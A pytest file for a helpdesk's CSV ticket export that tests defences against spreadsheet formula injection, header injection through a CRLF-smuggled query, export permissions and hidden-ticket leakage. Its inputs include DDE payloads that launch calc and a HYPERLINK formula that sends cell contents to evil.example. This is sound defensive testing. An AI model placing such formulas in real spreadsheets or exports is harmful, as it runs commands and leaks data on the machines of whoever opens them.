"""A list as a file: no cell of it is computed, whoever wrote what stands in it (attack 20)."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from itertools import product
from pathlib import Path

import pytest
from flask import Flask
from sqlalchemy import delete

from config import Settings
from helpdesk.db import writing
from helpdesk.people import find
from helpdesk.people.models import Person
from helpdesk.tickets.models import FieldValue, Ticket, TicketTag
from tests.at_the_desk import AtTheDesk
from tests.cast import Case, Character
from tests.conftest import DESK
from tests.plugins.post import Post, letter
from tests.visitor import Visitor

COMMAND = "=cmd|'/C calc'!A0"
HOSTILE = (
    COMMAND,
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "  =1+1",
    "\uff1d1+1",
    "\u200b=1+1",
    'x";=1+1',
    "x;\t=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "x\n=1+1",
    "\tx",
    "\rx",
)
OUR_WORDS = {
    "label: Repairs": 'label: "=1+repairs"',
    "label: New": 'label: "+1+new"',
    "label: Front line": 'label: "@front"',
    "label: Kind of request": 'label: "-kind"',
    "Technical, billing": '"=1+technical", billing',
    "label: Serial number, pattern: '[A-Z]{2}\\d{6}'": 'label: "=serial"',
}
MORE_FIELDS = """
  lines: {type: textarea, label: "=lines", keep: ticket}
  place: {type: url, label: "+place", keep: ticket}
  papers: {type: file, label: "@papers", keep: ticket}
  several: {type: multichoice, label: "-several", choices: {a: "=1+a", b: "@b"}, keep: ticket}
  size: {type: number, label: Size, keep: ticket}
"""


@pytest.fixture
def settings(settings: Settings, tmp_path: Path) -> Settings:
    """The tests' desk, whose own words begin as formulas too."""
    text = DESK.read_text()
    for words, hostile in OUR_WORDS.items():
        assert words in text, words
        text = text.replace(words, hostile)
    text = text.replace("\nreplies:", f"{MORE_FIELDS}\nreplies:", 1)
    carried = "kind, serial, lines, place, papers, several, size"
    text = text.replace("fields: [kind, serial, price]", f"fields: [{carried}, price]")
    text = text.replace("allow: [agent], fields: [kind, serial]}", f"allow: [agent], fields: [{carried}]}}")
    text = text.replace("accountant: {label: Accountant}", "accountant: {label: Accountant, may: [export]}")
    file = tmp_path / "desk.yaml"
    file.write_text(text)
    return replace(settings, workflows=str(file))


def read_back(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter, strict=False))


def computed(cell: str) -> bool:
    """As suspicious as can be: whatever stands behind blanks, quotes and what cannot be seen."""
    bare = cell.lstrip(' "\t\r\n\u00a0\u200b\ufeff\u3000')
    return bare.startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))


def downloaded(app: Flask, who: Character, **asked: str) -> str:
    answer = AtTheDesk(app, who).opens("/desk/tickets.csv", query_string=asked)
    assert answer.status_code == 200, answer.text
    return answer.text


def put(app: Flask, case: Case, hostile: str) -> None:
    """The value wherever a row holds text, as an older, worse program may have left it."""
    with app.app_context(), writing() as here:
        ticket = here.get_one(Ticket, case.id)
        ticket.subject = hostile
        here.get_one(Person, ticket.requester_id).name = hostile
        ticket.group = "front"
        here.execute(delete(TicketTag))
        here.execute(delete(FieldValue))
        here.add(TicketTag(ticket_id=case.id, name=hostile))
        kept = {"serial": hostile, "lines": hostile, "place": hostile, "papers": hostile, "several": "a,b"}
        kept |= {"kind": "technical", "price": "-5.00", "size": "-12.5"}
        here.add_all(FieldValue(ticket_id=case.id, name=name, value=text, text_key="") for name, text in kept.items())
        assignee = find.by_email("ann@acme.example")
        assert assignee is not None
        assignee.name = hostile
        ticket.assignee_id = assignee.id


def test_no_cell_of_a_list_is_computed(app: Flask, olga: Character, ann: Character, boris: Character) -> None:
    """Attack 20: a hostile value in every column at once, read back as spreadsheets of either half of Europe do."""
    case = olga.writes("Printer on fire")
    wrong = []
    for hostile in HOSTILE:
        put(app, case, hostile)
        text = downloaded(app, boris, filter="all")
        head, line = read_back(text)
        assert len(head) == len(line) == 21
        told = dict(zip([name.lstrip("'") for name in head], line, strict=True))
        assert [told.pop("Price"), told.pop("Size")] == ["-5.00", "-12.5"], "a number is one"
        wrong += [(hostile, name) for name, cell in told.items() if computed(cell) or cell[:1] in {"\t", "\r", "\n"}]
        wrong += [(hostile, name) for name in head if computed(name)]
        for name in ("Subject", "Requester", "Assignee", "Tags", "=serial", "=lines", "+place"):
            assert told[name].replace("'", "") == hostile.replace("'", ""), (name, "it is shown")
        for cell in (cell for delimiter in ";\t" for row in read_back(text, delimiter) for cell in row):
            wrong += [(hostile, cell)] if computed(cell) else []
    assert not wrong


def test_what_is_mailed_in_is_not_computed(app: Flask, post: Post, ann: Character, boris: Character) -> None:
    """Attack 20, the way it comes: as a subject, as the sender's name, as the sender's address, as a search."""
    for number, (subject, name) in enumerate(product((COMMAND, "@SUM(A1)"), (COMMAND, "+1"))):
        mail = letter(f"=a{number}@evil.example", subject=subject).as_bytes()
        post.case(mail.replace(b"From: ", f'From: "{name}" <'.encode()).replace(b".example\n", b".example>\n", 1))
    for text in (downloaded(app, boris, filter="open"), downloaded(app, boris, q="calc")):
        lines = read_back(text)
        assert len(lines) > 2
        assert not [cell for line in lines for cell in line if computed(cell)]
    assert f"'{COMMAND}" in text


def test_a_name_of_a_file_never_ends_the_head(app: Flask, olga: Character, ann: Character, boris: Character) -> None:
    """Attack 21: what is asked is no part of the file's name."""
    olga.writes("Printer on fire")
    answer = AtTheDesk(app, boris).opens("/desk/tickets.csv", query_string={"q": "fire\r\nX-Evil: 1"})
    assert "X-Evil" not in answer.headers
    assert "Evil" not in answer.headers["Content-Disposition"]


def test_a_right_of_its_own_is_needed(app: Flask, olga: Character, ann: Character, edgar: Character) -> None:
    """Neither an agent without `export` gets a file nor a customer, nor is one offered."""
    olga.writes("Printer on fire")
    for who in (ann, edgar):
        browser = AtTheDesk(app, who)
        assert "tickets.csv" not in browser.opens("/desk/filters/all").text
        assert browser.opens("/desk/tickets.csv").status_code == 404
    at_home = Visitor(app).is_let_in(olga.email, "cabinet")
    assert at_home.opens("/desk/tickets.csv").status_code == 404


def test_nothing_out_of_sight_is_in_the_file(
    app: Flask, olga: Character, ann: Character, boris: Character, kadri: Character
) -> None:
    """Attack 44, in a file: the accountant sees what awaits payment, and has the right to take that along."""
    new, quoted = olga.writes("Printer on fire"), olga.writes("Scanner on fire")
    ann.performs("quote", quoted, price="5")
    for asked in ({"filter": "all"}, {"filter": "open"}, {"q": "fire"}):
        assert new.ref not in downloaded(app, kadri, **asked), asked
        assert quoted.ref in downloaded(app, kadri, **asked), asked
        assert new.ref in downloaded(app, boris, **asked), asked
    assert AtTheDesk(app, kadri).opens("/desk/tickets.csv?filter=state:repair.new").status_code == 404
